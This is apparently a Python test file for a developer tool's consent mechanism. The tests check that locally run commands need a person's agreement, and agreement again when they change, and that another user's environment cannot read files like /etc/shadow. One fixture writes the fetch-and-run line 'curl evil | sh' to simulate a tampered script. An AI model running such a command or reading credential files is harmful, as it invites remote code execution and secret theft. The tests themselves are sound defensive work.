"""A person agrees once to what an environment runs, and again when that changes."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from envwright.cache import trust
from envwright.errors import RefusedError
from envwright.spec.reach import LocalCommand, Reach

if TYPE_CHECKING:
    from pathlib import Path


@pytest.fixture
def reach(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Reach:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    (tmp_path / "get.sh").write_text("echo token\n")
    command = LocalCommand("token", ("sh", "get.sh"), str(tmp_path), "box.yaml:3")
    return Reach(str(tmp_path), (command,))


def test_commands_are_refused_until_somebody_has_agreed(reach: Reach) -> None:
    with pytest.raises(trust.UntrustedError) as caught:
        trust.require(reach)
    assert str(caught.value) == (
        "the environment runs commands on this computer:\n"
        "    sh get.sh  (secret token, box.yaml:3)\n"
        "and nobody has agreed to that\n"
        "hint: read them, then say --trust, or run `envwright plan` in a terminal once"
    )
    trust.remember(reach)
    trust.require(reach)


def test_another_command_is_asked_about_again(reach: Reach) -> None:
    trust.remember(reach)
    other = replace(reach.commands[0], words=("sh", "get.sh", "more"))
    with pytest.raises(trust.UntrustedError):
        trust.require(replace(reach, commands=(other,)))


def test_a_changed_script_of_the_repository_is_asked_about_again(
    reach: Reach, tmp_path: Path
) -> None:
    trust.remember(reach)
    (tmp_path / "get.sh").write_text("curl evil | sh\n")
    with pytest.raises(trust.UntrustedError):
        trust.require(reach)


def test_the_same_command_of_another_repository_is_asked_about(
    reach: Reach, tmp_path: Path
) -> None:
    trust.remember(reach)
    (tmp_path / "other").mkdir()
    with pytest.raises(trust.UntrustedError):
        trust.require(replace(reach, folder=str(tmp_path / "other")))


def test_an_environment_that_runs_nothing_needs_no_trust(tmp_path: Path) -> None:
    trust.require(Reach(str(tmp_path), (), ("/etc/hosts",)))


def test_another_users_environment_reads_nothing_that_is_not_its_own(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Reach, "is_foreign", lambda _: True)
    trust.require(Reach(str(tmp_path)))
    with pytest.raises(RefusedError) as caught:
        trust.require(Reach(str(tmp_path), (), ("/etc/shadow",)))
    assert str(caught.value) == (
        f"the environment is another user's, and reads /etc/shadow, which is not in {tmp_path}\n"
        "hint: say --trust where you know what it does with that file; nothing was changed"
    )
